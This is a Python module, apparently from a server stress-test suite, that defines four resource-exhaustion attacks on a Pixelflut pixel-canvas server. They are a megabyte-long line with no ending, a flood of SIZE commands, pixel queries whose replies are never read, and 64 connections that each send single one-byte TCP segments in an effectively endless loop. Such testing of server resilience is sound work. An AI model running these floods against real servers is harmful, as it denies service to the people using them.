# SPDX-License-Identifier: MIT
"""What costs Pixelflut most."""
import socket

from attacking import Attack, connect, flood


def endless_line(wall):
    flood(wall, b"PX 1 1 " + b"f" * 1000000, 20, "pixelflut")


def sizes(wall):
    flood(wall, b"SIZE\n" * 20000, 20, "pixelflut")


def undrained(wall):
    """Pixels are asked for, and no answer is read."""
    flood(wall, b"PX 1 1\n" * 20000, 200, "pixelflut", reads=False)


def single_bytes(wall):
    """Every byte is a segment of its own."""
    lines = b"PX 12 34 ff00ff\n"
    links = []
    for n in range(64):
        s = connect(wall, "pixelflut")
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setblocking(False)
        links.append(s)
    for at in range(1 << 40):
        for s in links:
            try:
                s.send(lines[at % len(lines):][:1])
            except BlockingIOError:
                pass


PROBES = ("pixelflut",)
ATTACKS = [
    Attack("Pixelflut lines without an end", endless_line, PROBES),
    Attack("a flood of SIZE", sizes, PROBES),
    Attack("Pixelflut reads that nobody drains", undrained, PROBES),
    Attack("Pixelflut in segments of one byte", single_bytes, PROBES),
]
